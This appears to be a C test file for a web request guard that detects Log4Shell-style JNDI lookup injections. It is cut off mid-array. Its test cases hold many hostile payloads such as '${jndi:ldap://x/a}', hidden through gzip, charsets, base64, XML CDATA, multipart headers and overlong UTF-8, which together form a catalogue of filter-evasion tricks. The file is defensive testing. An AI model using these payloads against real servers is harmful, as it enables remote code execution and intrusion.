/* Codings, limits, exclusions and rules: what counts, and what was not looked at. */
#include "probe.h"

#include <zlib.h>

#define ZEROS "00000000000000000000000000000000000000000000000000000000000000000000000000000000"
#define P "${jndi:ldap://x/a}"
#define W32(c) "\0\0\0" c
#define W32L(c) c "\0\0\0"
#define FORM "application/x-www-form-urlencoded"
#define XML "application/xml"
#define MULTI "multipart/form-data; boundary=b"
#define SLICE(text)                               \
    {                                             \
        (const uint8_t *)(text), sizeof(text) - 1 \
    }

static struct slice pack(struct slice s, int window, struct buf *out)
{
    uint8_t *room;
    size_t most = s.n + s.n / 100 + 200, before = out->n;
    assert_ok(buf_reserve(out, most, &room));
    z_stream z = {.next_in = (z_const Bytef *)(uintptr_t)s.p,
                  .avail_in = (uInt)s.n,
                  .next_out = room,
                  .avail_out = (uInt)most};
    assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, window, 8, Z_DEFAULT_STRATEGY), Z_OK);
    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
    (void)deflateEnd(&z);
    buf_commit(out, most - z.avail_out);
    return slice_sub(buf_slice(out), before, out->n);
}

/* The answer of every cut is the same. */
static void body_is(struct probe *p, const char *type, const char *encoding, struct slice body,
                    const char *want)
{
    for (p->piece = 0; p->piece < 3; p->piece++) {
        probe_body(p, type, encoding, body);
        if (strcmp(probe_found(p), want) != 0)
            fail_msg("%s, %s: %s instead of %s", type, encoding, probe_found(p), want);
    }
    p->piece = 0;
    size_t step = body.n > 300 ? body.n / 100 : 1;
    for (p->cut = 1; p->cut < body.n; p->cut += step) {
        probe_body(p, type, encoding, body);
        if (strcmp(probe_found(p), want) != 0)
            fail_msg("%s, %s, cut %zu: %s instead of %s", type, encoding, p->cut, probe_found(p),
                     want);
    }
    p->cut = 0;
}

static void test_codings(void **state)
{
    static const struct {
        const char *encoding;
        bool packed;
        int window;
        const char *want;
    } cases[] = {
        {"gzip", true, 31, "lookup reaches form:q ldap://x/a"},
        {" X-GZIP ", true, 31, "lookup reaches form:q ldap://x/a"},
        {"identity, gzip", true, 31, "lookup reaches form:q ldap://x/a"},
        {"deflate", true, 15, "lookup reaches form:q ldap://x/a"},
        {"deflate", true, -15, "lookup reaches form:q ldap://x/a"},
        {"identity", false, 0, "lookup reaches form:q ldap://x/a"},
        {"", false, 0, "lookup reaches form:q ldap://x/a"},
        /* what claims to be coded and is not is seen all the same */
        {"gzip", false, 0, "lookup reaches body ldap://x/a"},
        {"deflate", false, 0, "lookup reaches body ldap://x/a"},
        {"br", false, 0, "lookup reaches form:q ldap://x/a"},
        {"gzip, gzip", false, 0, "lookup reaches form:q ldap://x/a"},
        {"zstd", true, 31, "limit encoding body"},
        {"gzip, deflate", true, 31, "limit encoding body"},
        {"gzip", true, 15, "limit encoding body"},
        {"gzip", true, -15, "limit encoding body"},
    };
    struct probe p;
    struct buf b;
    (void)state;
    probe_init(&p);
    buf_init(&b, MIB(1));
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct slice body = SLICE_LIT("a=1&q=%24%7Bjndi:ldap://x/a%7D&c=3");
        buf_clear(&b);
        if (cases[i].packed)
            body = pack(body, cases[i].window, &b);
        body_is(&p, FORM, cases[i].encoding, body, cases[i].want);
    }
    buf_done(&b);
    probe_done(&p);
}

static void test_broken_codings(void **state)
{
    struct probe p;
    struct buf b;
    (void)state;
    probe_init(&p);
    buf_init(&b, MIB(1));
    struct slice whole = pack(SLICE_LIT("a=harmless&b=text that is packed"), 31, &b);
    body_is(&p, FORM, "gzip", whole, "nothing");
    for (size_t n = 1; n < whole.n; n++) { /* cut anywhere, it was not all looked at */
        probe_body(&p, FORM, "gzip", slice_sub(whole, 0, n));
        assert_string_equal(probe_found(&p), "limit encoding body");
        assert_true(p.q.limited);
    }
    probe_begin(&p); /* packed bytes are never called clean */
    assert_ok(guard_body_begin(&p.q, SLICE_LIT(FORM), SLICE_LIT("gzip")));
    assert_false(guard_body_clean(&p.q, whole));
    probe_end(&p);
    body_is(&p, FORM, "gzip", (struct slice){NULL, 0}, "nothing");
    b.p[whole.n - 5] ^= 1; /* the checksum */
    body_is(&p, FORM, "gzip", whole, "limit encoding body");
    b.p[whole.n - 5] ^= 1;
    (void)buf_add_str(&b, "trailing");
    body_is(&p, FORM, "gzip", buf_slice(&b), "limit encoding body");
    buf_cut(&b, whole.n); /* a second member */
    (void)pack(SLICE_LIT("&q=" P), 31, &b);
    body_is(&p, FORM, "gzip", buf_slice(&b), "lookup reaches form:q ldap://x/a");
    buf_clear(&b); /* deflate has no second one */
    (void)pack(SLICE_LIT("a"), 15, &b);
    (void)pack(SLICE_LIT("&q=" P), 15, &b);
    body_is(&p, FORM, "deflate", buf_slice(&b), "limit encoding body");
    body_is(&p, FORM, "deflate", SLICE_LIT("x"), "limit encoding body");
    buf_done(&b);
    probe_done(&p);
}

/* As zlib it is one stored block of spaces and what looks like noise, without its header a stored
 * block and what that noise says. */
static void test_two_readings(void **state)
{
    struct probe p;
    struct buf b;
    static uint8_t text[0x10000];
    (void)state;
    probe_init(&p);
    buf_init(&b, MIB(1));
    size_t n = 0x19c, whole = 0xfe63, head = 7;
    assert_ok(buf_add(&b, "\x78\x9c\x01\x63\xfe\x9c\x01", head));
    memset(text, ' ', sizeof text);
    assert_ok(buf_add(&b, text, n - 2));
    (void)pack(SLICE_LIT(P " " P " " P), -15, &b);
    assert_ok(buf_add(&b, text, head + whole - b.n));
    uLong sum = adler32(1, b.p + head, (uInt)whole);
    uint8_t end[4] = {(uint8_t)(sum >> 24), (uint8_t)(sum >> 16), (uint8_t)(sum >> 8),
                      (uint8_t)sum};
    assert_ok(buf_add(&b, end, sizeof end));
    body_is(&p, "text/plain", "deflate", buf_slice(&b), "limit encoding body");
    body_is(&p, "text/plain", "deflate", SLICE_LIT("\x03\0"), "nothing"); /* an empty one */
    buf_done(&b);
    probe_done(&p);
}

static void test_charsets(void **state)
{
    static const struct {
        const char *type, *want;
    } cases[] = {
        {"text/plain; charset=utf-8", "nothing"},
        {"text/plain; charset=\"Shift_JIS\"", "nothing"},
        {"text/plain; charset=iso-8859-15", "nothing"},
        {"text/plain;charset=UTF-16LE", "nothing"},
        {"text/plain; charset=", "nothing"},
        {"text/plain; charset=ibm037", "limit charset body"},
        {"text/plain; x=y; CHARSET=\"utf-7\"", "limit charset body"},
        {"text/plain; charset=cp1047", "limit charset body"},
        /* its escapes vanish between any two letters */
        {"text/plain; charset=ISO-2022-JP", "limit charset body"},
        /* which one counts is the reader's choice */
        {"text/plain; charset=utf-8; charset=ibm037", "limit charset body"},
        {"text/plain; charset=ibm037; charset=utf-8", "limit charset body"},
        {"text/plain; charset=utf-8,text/plain; charset=ibm037", "limit charset body"},
        {"text/plain; charset*=utf-8''utf-7", "limit charset body"},
        {"text/plain; charset=windows-iso2022jp", "limit charset body"},
        {"text/plain; charset=windows-31j", "nothing"},
        {FORM "; charset=utf-32", "limit charset body"},
        {FORM "; charset=utf-16", "nothing"},
        /* which type counts, and where parts end, too */
        {"text/plain,application/xml", "limit encoding body"},
        {"text/plain; charset=utf-8, TEXT/plain; charset=utf-8", "nothing"},
        {MULTI, "nothing"},
        {"multipart/form-data; x=\"a;b\"; boundary=\"b\"; boundary=b", "nothing"},
        {"multipart/form-data", "limit encoding body"},
        {"multipart/form-data,boundary=b", "limit encoding body"},
        {"multipart/form-data; boundary*=utf-8''b", "limit encoding body"},
        {"multipart/form-data; boundary*0=b; boundary=b", "limit encoding body"},
        {"multipart/form-data; boundary=a; boundary=b", "limit encoding body"},
        {"multipart/form-data; boundary=\"\\b\"", "limit encoding body"},
        {"multipart/form-data; boundary=", "limit encoding body"},
    };
    struct probe p;
    (void)state;
    probe_init(&p);
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        body_is(&p, cases[i].type, "", SLICE_LIT("harmless"), cases[i].want);
    body_is(&p, "text/plain; charset=ibm037", "", SLICE_LIT(P), "lookup reaches body ldap://x/a");
    body_is(&p, "application/json; charset=utf-16le", "",
            SLICE_LIT("$\0{\0j\0n\0d\0i\0:\0d\0n\0s\0:\0/\0/\0x\0}\0"),
            "lookup reaches json: dns://x");
    /* a mark tells, whatever the type */
    body_is(&p, "text/plain", "",
            SLICE_LIT("\xff\xfe\0\0" W32L("$") W32L("{") W32L("j") W32L("n") W32L("d") W32L("i")
                          W32L(":") W32L("x") W32L("}")),
            "lookup reaches body x");
    body_is(&p, FORM, "",
            SLICE_LIT("\0\0\xfe\xff" W32("a") W32("=") W32("$") W32("{") W32("j") W32("n") W32("d")
                          W32("i") W32(":") W32("x") W32("}")),
            "lookup reaches form:\\ufeffa x");
    body_is(&p, "text/html", "",
            SLICE_LIT("\xfe\xff\0&\0#\0"
                      "3\0"
                      "6\0;\0{\0j\0n\0d\0i\0:\0x\0}"),
            "lookup reaches body x");
    /* UTF-32, said or seen */
    body_is(&p, "application/json", "",
            SLICE_LIT("\0\0\0[\0\0\0\"" W32("$") W32("{") W32("j") W32("n") W32("d") W32("i")
                          W32(":") W32("x") W32("}") "\0\0\0\"\0\0\0]"),
            "lookup reaches json:/0 x");
    body_is(&p, "application/json", "",
            SLICE_LIT("\xff\xfe\0\0" W32L("$") W32L("{") W32L("j") W32L("n") W32L("d") W32L("i")
                          W32L(":") W32L("x") W32L("}")),
            "lookup reaches json: x");
    body_is(&p, "text/plain; charset=utf-32", "",
            SLICE_LIT(W32("$") W32("{") W32("j") W32("n") W32("d") W32("i")
                          W32(":") "\0\1\xf6\0" W32("}")),
            "lookup reaches body \xf0\x9f\x98\x80");
    body_is(&p, "application/json", "", SLICE_LIT("[1]"), "nothing");
    body_is(&p, "application/json", "", SLICE_LIT("\0\0\0"), "nothing");
    probe_begin(&p);
    assert_false(guard_body_clean(&p.q, SLICE_LIT(W32("[") W32("]"))));
    probe_end(&p);
    probe_done(&p);
}

/* A body that lies in pieces is clean when it is clean as one, wherever it is cut. */
static void test_clean_in_pieces(void **state)
{
    static const char *const spellings[] = {
        "${jndi:ldap://a.example/x}", "%2524%257Bjndi:ldap://a.example/x%7d",
        "\\u0024\\u007bjndi:ldap://a.example/x}", "&amp;#36;&lbrace;jndi:ldap://a.example/x}",
        "JHtqbmRpOmxkYXA6Ly9hLmV4YW1wbGUveH0="};
    struct probe p;
    (void)state;
    probe_init(&p);
    probe_begin(&p);
    for (size_t i = 0; i <= ARRAY_LEN(spellings); i++) {
        char body[2000];
        bool clean = i == ARRAY_LEN(spellings);
        memset(body, 'a', sizeof body);
        if (!clean)
            memcpy(body + 900, spellings[i], strlen(spellings[i]));
        for (size_t cut = 0; cut <= 1200; cut++) {
            struct slice pieces[] = {slice_of(body, cut), slice_of(body + cut, 100),
                                     slice_of(body + cut + 100, sizeof body - cut - 100)};
            assert_int_equal(guard_body_clean_pieces(&p.q, pieces, 3), clean && cut > 3);
        }
    }
    probe_end(&p);
    probe_done(&p);
}

/* The digits by which gzip is told in base64 stand on both sides of where a cell begins. */
static void test_gzip_at_a_cell(void **state)
{
    (void)state;
    static const char packed[] = "eB+LCAAAAAAAAgNTqc7KS8m0yklJLLDS16/QS61IzC3ISdVPrFVIzEtRKEmt"
                                 "KAEAuT4LoiMAAAA=";
    struct probe p;
    struct buf body;
    probe_init(&p);
    buf_init(&body, KIB(8));
    for (size_t at = GUARD_CELL - 8; at < GUARD_CELL + 8; at++) {
        buf_clear(&body);
        while (body.n < at)
            (void)buf_add_char(&body, '-');
        (void)buf_add_str(&body, packed);
        (void)buf_add_str(&body, " and more");
        body_is(&p, "text/plain", "", buf_slice(&body), "lookup reaches body ldap://x.example/a");
    }
    buf_done(&body);
    probe_done(&p);
}

static void test_body_limit(void **state)
{
    struct probe p;
    struct buf b;
    (void)state;
    probe_init(&p);
    buf_init(&b, MIB(8));
    for (uint64_t limit = 19; limit <= 21; limit++) {
        p.options.body_limit = limit;
        body_is(&p, FORM, "", SLICE_LIT("q=" P),
                limit < 20 ? "lookup if-closed form:q ldap://x/a"
                           : "lookup reaches form:q ldap://x/a");
        assert_int_equal(p.q.limited, limit < 20);
        body_is(&p, FORM, "", SLICE_LIT("0123456789abcdefghij"),
                limit < 20 ? "limit body-limit body" : "nothing");
        probe_begin(&p);
        assert_int_equal(guard_body_clean(&p.q, SLICE_LIT("0123456789abcdefghij")), limit >= 20);
        probe_end(&p);
        buf_clear(&b); /* inflated bytes count */
        body_is(&p, FORM, "deflate", pack(SLICE_LIT("aaaaaaaaaaaaaaaaaaaa"), 15, &b),
                limit < 20 ? "limit body-limit body" : "nothing");
    }
    p.options.body_limit = 1; /* what stands behind is not looked at, and that is said */
    body_is(&p, FORM, "", SLICE_LIT("q=" P), "limit body-limit body");
    buf_done(&b);
    probe_done(&p);
}

/* A bomb costs no more than its packed bytes times the ratio. */
static void test_bomb(void **state)
{
    struct probe p;
    struct buf zeros, b;
    (void)state;
    probe_init(&p);
    buf_init(&zeros, MIB(64));
    buf_init(&b, MIB(64));
    while (zeros.n < MIB(32))
        (void)buf_add(&zeros, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", 32);
    struct slice bomb = pack(buf_slice(&zeros), 31, &b);
    assert_true(bomb.n < KIB(64));
    probe_body(&p, "text/plain", "gzip", bomb);
    assert_string_equal(probe_found(&p), "limit ratio body");
    assert_true(p.bytes < KIB(128));
    p.piece = 1;
    probe_body(&p, "text/plain", "gzip", bomb);
    assert_string_equal(probe_found(&p), "limit ratio body");
    p.piece = 0;
    buf_clear(&b); /* a MiB may be packed as well as it can */
    probe_body(&p, "text/plain", "gzip", pack(slice_sub(buf_slice(&zeros), 0, MIB(1)), 31, &b));
    assert_string_equal(probe_found(&p), "nothing");
    buf_done(&zeros);
    buf_done(&b);
    probe_done(&p);
}

/* --- memory */

static void test_clean_takes_no_memory(void **state)
{
    struct probe p;
    struct slice body =
        SLICE_LIT("{\"name\":\"\xe5\xb1\xb1\xe7\x94\xb0\",\"price\":\"$100 & up, 25%\"}");
    (void)state;
    probe_init(&p);
    probe_begin(&p);
    assert_true(guard_head_clean(&p.q, SLICE_LIT("GET /a?b=%20c HTTP/1.1\r\nHost: x\r\n\r\n")));
    guard_uri(&p.q, SLICE_LIT("/a"));
    guard_args(&p.q, SLICE_LIT("b=%20c&d=%2F"));
    guard_header(&p.q, SLICE_LIT("Cookie"), SLICE_LIT("a=b; c=d"));
    assert_ok(guard_body_begin(&p.q, SLICE_LIT("application/json"), (struct slice){NULL, 0}));
    assert_true(guard_body_clean(&p.q, body));
    assert_true(guard_body_clean(&p.q, (struct slice){NULL, 0}));
    assert_false(guard_body_clean(&p.q, SLICE_LIT("a ${b}")));
    assert_false(guard_head_clean(&p.q, SLICE_LIT("GET /%24%7bjndi")));
    guard_body_end(&p.q);
    probe_end(&p);
    assert_int_equal(p.count, 0);
    assert_string_equal(probe_found(&p), "nothing");
    probe_body(&p, "application/json", "", body); /* in pieces: one block, known beforehand */
    assert_int_equal(p.count, 1);
    assert_true(p.bytes < KIB(16));
    probe_done(&p);
}

/* Memory refused at each allocation: never a crash, never "nothing" where something is. */
static void test_memory_refused(void **state)
{
    struct probe p;
    struct buf b;
    (void)state;
    probe_init(&p);
    buf_init(&b, MIB(1));
    (void)buf_add_str(&b, "a=");
    while (b.n < 60000)
        (void)buf_add_char(&b, 'x');
    (void)buf_add_str(&b, "${y}&q=" P);
    struct buf packed;
    buf_init(&packed, MIB(1));
    struct slice gz = pack(buf_slice(&b), 31, &packed);
    for (size_t n = 1;; n++) {
        p.refuse_from = n;
        probe_begin(&p);
        enum status st = guard_body_begin(&p.q, SLICE_LIT(FORM), SLICE_LIT("gzip"));
        if (st == OK) {
            guard_body_piece(&p.q, gz);
            guard_body_end(&p.q);
        }
        probe_end(&p);
        assert_int_not_equal(p.q.found.why, GUARD_NOTHING);
        if (p.q.found.why == GUARD_LIMIT)
            assert_true(p.q.limited);
        if (p.count + 1 < n)
            break;
    }
    assert_string_equal(probe_found(&p), "lookup reaches form:q ldap://x/a");
    buf_done(&b);
    buf_done(&packed);
    probe_done(&p);
}

/* --- what does not count */

static bool excluded(void *ctx, const struct guard_field *f)
{
    (void)ctx;
    return slice_eq_str(f->name, "template") || slice_eq_str(f->name, "/template");
}

static void test_excluded(void **state)
{
    static const struct {
        const char *type, *body, *want;
    } cases[] = {
        {FORM, "template=" P, "nothing"},
        {FORM, "a=1&template=" P "&b=2", "nothing"},
        {FORM, "template=%24%7Bjndi:ldap://x/a%7D&template=" P, "nothing"},
        {FORM, "template=" P "&q=${jndi:ldap://y}", "lookup reaches form:q ldap://y"},
        {FORM, "q=${jndi:ldap://y}&template=" P, "lookup reaches form:q ldap://y"},
        /* across a border it counts: what the field holds alone does less */
        {FORM, "template=${jndi:ldap://x&q=}", "lookup reaches form:template ldap://x&q="},
        {FORM, "q=${jndi:ldap:&template=//x/a}", "lookup reaches form:q ldap:&template=//x/a"},
        {FORM, "template=${jndi:ldap://x&q=1", "nothing"},
        {FORM, "template=${name}", "nothing"},
        {"application/json", "{\"template\":\"" P "\",\"q\":\"${x}\"}", "nothing"},
        {"application/json", "{\"template\":\"" P "\",\"q\":\"" P "\"}",
         "lookup reaches json:/q ldap://x/a"},
        {"text/plain", "template=" P, "lookup reaches body ldap://x/a"},
    };
    struct probe p;
    (void)state;
    probe_init(&p);
    p.options.excluded = excluded;
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        body_is(&p, cases[i].type, "", slice_str(cases[i].body), cases[i].want);
    probe_begin(&p);
    guard_args(&p.q, SLICE_LIT("template=" P));
    guard_header(&p.q, SLICE_LIT("Template"), SLICE_LIT(P));
    assert_string_equal(probe_found(&p), "nothing");
    guard_header(&p.q, SLICE_LIT("Templates"), SLICE_LIT(P));
    assert_string_equal(probe_found(&p), "lookup reaches header:templates ldap://x/a");
    probe_end(&p);
    probe_done(&p);
}

/* What readers of a type make of it, where no byte shows it. */
#define PART(headers, content) \
    "--b\r\nContent-Disposition: form-data; " headers "\r\n\r\n" content "\r\n--b--\r\n"
static const struct {
    const char *type, *body, *want;
} said[] = {
    {XML, "<a>$<![CDATA[{jndi:ldap://x/a}]]></a>", "lookup reaches body ldap://x/a"},
    {XML, "<a><![CDATA[${jn]]><![CDATA[di:ldap://x/a}]]></a>", "lookup reaches body ldap://x/a"},
    {XML, "<a>$<!-- {x} -->{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
    {XML, "<a>$<?b c?>{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
    {XML, "<a>$<b/>{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
    {XML, "<a><![CDATA[<!--]]>$<![CDATA[{jndi:ldap://x/a}]]></a>",
     "lookup reaches body ldap://x/a"},
    {XML, "<!DOCTYPE a [<!ENTITY j '{jn'>]><a>$&j;di:ldap://x/a}</a>", "limit encoding body"},
    {XML, "<!DOCTYPE a SYSTEM 'b.dtd'><a>$ <b>{x}</b><![CDATA[$]]>{y}</a>", "nothing"},
    {XML, "\x4c\x6f\xa7\x94\x93", "limit charset body"},
    {XML, "<?xml version=\"1.0\" encoding='utf-8'?><a/>", "nothing"},
    {XML, "<?xml version='1.0' encoding = \"UTF-16\" standalone='yes'?><a/>", "nothing"},
    {XML, "<?xml version='1.0'?><a encoding='ibm037'/>", "nothing"},
    {XML, "<?xml-stylesheet encoding='ibm037'?><a/>", "nothing"},
    {XML, "\xef\xbb\xbf<?xml version='1.0'\tencoding='ibm037'?><a/>", "limit charset body"},
    {XML, "<?xml\n\n\n\nencoding \n=\t\"UCS-4\"?><a/>", "limit charset body"},
    {XML, "<?xml encoding=''?><a/>", "nothing"},
    {XML, "<?xml encoding?><a/>", "nothing"},
    {XML, "<?xml version='1.0' a='" ZEROS ZEROS "' encoding='utf-8'?><a/>", "limit charset body"},
    {MULTI, PART("name=n; filename=\"=?UTF-8?Q?=24=7Bjndi:ldap://x/a=7D?=\"", "x"),
     "lookup reaches body ldap://x/a"},
    {MULTI, PART("name=n; filename=\"=?utf-8?q?$?= \t=?UTF-8?Q?{jndi:ldap://x/a}?=\"", "x"),
     "lookup reaches body ldap://x/a"},
    {MULTI, PART("name=n; filename=\"=?utf-8?B?JHtq?= =?utf-8?B?bmRpOmxkYXA6Ly94L2F9?=\"", "x"),
     "lookup reaches body ldap://x/a"},
    {MULTI, PART("name=\"\\$\\{j\\ndi:ldap://x/a}\"", "x"), "lookup reaches body ldap://x/a"},
    {MULTI,
     PART("name=n\r\nContent-Transfer-Encoding: Quoted-Printable", "$=\r\n=7bjndi:ldap://x/a=7D"),
     "lookup reaches body ldap://x/a"},
    {MULTI, PART("name=n\r\nContent-Type: text/plain; charset=\"ibm037\"", "x"),
     "limit charset body"},
    {MULTI, PART("name=n\r\nContent-Type: text/plain; charset=utf-8", "x"), "nothing"},
    /* base64 in lines of any length, with whatever else between its digits */
    {MULTI,
     PART("name=n\r\nContent-Transfer-Encoding: Base64",
          "JHtq\r\nbmRp\r\nOm\r\nxk\r\nY X A 6.L\r\ny94\r\n\r\nL2F9"),
     "lookup reaches body ldap://x/a"},
    {MULTI, PART("name=n\r\nContent-Transfer-Encoding: base64", "JA==\r\ne2puZGk6eH0="),
     "lookup reaches body x"},
    {MULTI,
     PART("name=n\r\nContent-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: "
          "quoted-printable",
          "x"),
     "limit encoding body"},
    {MULTI, PART("name=n; filename=\"=?utf-8?B?JA==?= =?utf-8*ja?b?e2puZGk6eH0=?=\"", "x"),
     "lookup reaches body x"},
    {MULTI, PART("name=n; filename=\"=?cp037?Q?=5B=C0?=\"", "x"), "limit charset body"},
    {MULTI, PART("name=n; filename=\"=?utf-32be?Q?=00?=\"", "x"), "limit charset body"},
    {MULTI, PART("name=n; filename=\"=?utf-8?Q?=5B?= =?x?y?=?=\"", "x"), "nothing"},
    /* sections, and names as file names are written */
    {MULTI, PART("filename*0=\"${jn\"; filename*1=\"di:x}\"", "x"), "lookup reaches body x"},
    {MULTI, PART("name*0*=utf-8''%24; NAME*1=\"{jndi\"; name*2*=%3ax}", "x"),
     "lookup reaches body x"},
    {MULTI, PART("filename*1=\"di:x}\"; filename*0=\"${jn\"", "x"), "limit encoding body"},
    {MULTI, PART("filename*0=\"${jn\"; name=a; filename*1=\"di:x}\"", "x"), "limit encoding body"},
    {MULTI, PART("filename*0=a; filename*1=b; name*=utf-8''c; filename=d", "x"), "nothing"},
    {MULTI, PART("filename*=ibm037''%5b%c0", "x"), "limit charset body"},
    /* XML in a part, parts in a part */
    {MULTI, PART("name=n\r\nContent-Type: text/xml", "<a>$<b/>{jndi:ldap://x/a}</a>"),
     "lookup reaches body ldap://x/a"},
    {MULTI,
     PART("name=n\r\nContent-Type: application/\r\n soap+xml\r\n"
          "Content-Transfer-Encoding: base64",
          "PGE+JDxiLz57am5kaTpsZGFwOi8veC9hfTwvYT4="),
     "lookup reaches body ldap://x/a"},
    {MULTI, PART("name=n\r\nContent-Type: text/plain", "<a>$<b/>{jndi:ldap://x/a}</a>"), "nothing"},
    {MULTI,
     PART("name=n\r\nContent-Type: multipart/mixed;\r\n boundary=\"c\"",
          "--c\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n$=\r\n=7Bjndi:x}\r\n--c--"),
     "lookup reaches body x"},
    {MULTI,
     PART("name=n\r\nContent-Type: multipart/mixed; boundary=c",
          "--c\r\nContent-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\nContent-Type: "
          "text/xml\r\n\r\n<a>$<b/>{jndi:x}</a>\r\n--d--\r\n--c--"),
     "lookup reaches body x"},
    {MULTI,
     PART("name=n\r\nContent-Type: multipart/mixed; boundary=c",
          "--c\r\nContent-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\nContent-Type: "
          "multipart/mixed; boundary=e\r\n\r\nx\r\n--d--\r\n--c--"),
     "limit encoding body"},
    {MULTI, PART("name=n; filename=\"C:\\new\\=?x=1?y=\"", "=24=7Bjndi:ldap://x/a=7D"), "nothing"},
};

static void test_said(void **state)
{
    struct probe p;
    (void)state;
    probe_init(&p);
    for (size_t i = 0; i < ARRAY_LEN(said); i++) {
        body_is(&p, said[i].type, "", slice_str(said[i].body), said[i].want);
        probe_begin(&p);
        assert_ok(guard_body_begin(&p.q, slice_str(said[i].type), SLICE_LIT("")));
        assert_false(guard_body_clean(&p.q, slice_str(said[i].body)));
        probe_end(&p);
    }
    p.options.excluded = excluded;
    body_is(&p, XML, "", SLICE_LIT("<template>$<![CDATA[{jndi:ldap://x/a}]]></template>"),
            "nothing");
    body_is(&p, XML, "", SLICE_LIT("<a>$<![CDATA[{jndi:ldap://x/a}]]></a>"),
            "lookup reaches body ldap://x/a");
    probe_done(&p);
}

/* Spellings that readers are lenient about, in the bytes as they are. */
#define MORE_ZEROS ZEROS ZEROS ZEROS ZEROS ZEROS ZEROS ZEROS
static void test_lenient(void **state)
{
    static const struct {
        const char *type, *body, *want;
    } cases[] = {
        {"application/json", "{\"a\":\"${\\jn\\di\\:ldap://x/a}\"}",
         "lookup reaches json:/a ldap://x/a"},
        {"application/json", "{\"a\":\"$\\\n{j\\\r\nndi:ldap://x/a}\"}",
         "lookup reaches json:/a ldap://x/a"},
        {"application/json", "{a:'\\$\\{jndi\\:ldap://x/a\\}'}", "lookup reaches json: ldap://x/a"},
        {"text/yaml", "\"\\U00000024\\U0000007bjndi:ldap://x/a}\"",
         "lookup reaches body ldap://x/a"},
        {"text/html", "&#" ZEROS "36;{jndi:ldap://x/a}", "lookup reaches body ldap://x/a"},
        {"text/html", "&#x" MORE_ZEROS "24;&#" MORE_ZEROS "123;jndi:ldap://x/a}",
         "lookup reaches body ldap://x/a"},
        {FORM, "q=%26%23x" MORE_ZEROS "24%3b{jndi:ldap://x/a}", "lookup reaches form:q ldap://x/a"},
        {XML, "<a>&#x" ZEROS "24;&#" ZEROS "123;jndi:ldap://x/a}</a>",
         "lookup reaches xml:a ldap://x/a"},
        {"text/html", "&#" MORE_ZEROS MORE_ZEROS "37;{jndi:ldap://x/a}", "nothing"},
    };
    struct probe p;
    (void)state;
    probe_init(&p);
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        body_is(&p, cases[i].type, "", slice_str(cases[i].body), cases[i].want);
    probe_done(&p);
}

/* Who parses a body need not ask for its type. */
static void test_markup(void **state)
{
    static const char *const types[] = {"text/plain", FORM, "application/json", "", "text/html"};
    static const struct {
        const char *body, *want;
    } cases[] = {
        {"<a>$<b/>{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
        {" \t\r\n      \n<?xml version='1.0'?><a>$<![CDATA[{jndi:ldap://x/a}]]></a>",
         "lookup reaches body ldap://x/a"},
        {"\xef\xbb\xbf<a>${jn<!-- -->di:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
        {"<?xml version='1.0' encoding='ibm037'?><a/>", "limit charset body"},
        {"x<a>$<b/>{jndi:ldap://x/a}</a>", "nothing"},
        {"<a>$<b>{jndi</b></a>", "nothing"},
        {" \n", "nothing"},
    };
    struct probe p;
    (void)state;
    probe_init(&p);
    for (size_t t = 0; t < ARRAY_LEN(types); t++) {
        for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
            struct slice body = slice_str(cases[i].body);
            body_is(&p, types[t], "", body, cases[i].want);
            probe_begin(&p);
            assert_ok(guard_body_begin(&p.q, slice_str(types[t]), SLICE_LIT("")));
            for (size_t cut = 4; cut < body.n; cut++) {
                struct slice pieces[] = {slice_sub(body, 0, cut), slice_sub(body, cut, body.n)};
                if (strcmp(cases[i].want, "nothing") != 0)
                    assert_false(guard_body_clean_pieces(&p.q, pieces, 2));
            }
            probe_end(&p);
        }
    }
    body_is(&p, "text/plain", "",
            SLICE_LIT("\xff\xfe<\0a\0>\0$\0<\0b\0/\0>\0{\0j\0n\0d\0i\0:\0x\0}\0"),
            "lookup reaches body x");
    probe_done(&p);
}

static void test_grpc(void **state)
{
#define M(flag, length, content) flag "\0\0\0" length content
    static const struct {
        const char *type;
        struct slice body;
        const char *want;
    } cases[] = {
        {"application/grpc", SLICE(M("\0", "\x0c", "\n\n${jndi:x}") ""), "lookup reaches body x"},
        {"application/grpc+proto", SLICE(M("\0", "\2", "ab") M("\0", "\0", "") M("\0", "\1", "a")),
         "nothing"},
        {"application/grpc", SLICE(M("\0", "\2", "\1\1") M("\1", "\3", "abc")),
         "limit encoding body"},
        {"application/grpc-web+proto", SLICE(M("\1", "\0", "")), "limit encoding body"},
        {"application/grpc", SLICE("\0\0\0\0"), "nothing"},
        {"application/grpc-web-text", SLICE("\1\0\0\0\0"), "nothing"},
    };
#undef M
    struct probe p;
    (void)state;
    probe_init(&p);
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        body_is(&p, cases[i].type, "", cases[i].body, cases[i].want);
        probe_begin(&p);
        assert_ok(guard_body_begin(&p.q, slice_str(cases[i].type), SLICE_LIT("")));
        if (strcmp(cases[i].want, "nothing") != 0)
            assert_false(guard_body_clean(&p.q, cases[i].body));
        probe_end(&p);
    }
    probe_done(&p);
}

/* Two, three and four bytes for what needs one. */
static void test_long_forms(void **state)
{
    static const struct {
        const char *type, *body, *want;
    } cases[] = {
        {"application/json", "[\"\xc0\xa4{jndi:x}\"]", "lookup reaches body x"},
        {"application/json",
         "[\"\xc0\xa4\xe0\x81\xbbj\xf0\x80\x81\xae"
         "di:x\xc1\xbd\"]",
         "lookup reaches body x"},
        {"application/json; charset=UTF-8", "[\"${\xc1\xaandi:x}\"]", "lookup reaches body x"},
        {"application/json", "[\"\xc0\xa4\\u007bjndi:x}\"]", "lookup reaches body x"},
        {XML, "<a>\xe0\x80\xa4{jndi:x}</a>", "lookup reaches body x"},
        /* and who does not take them sees what stands there */
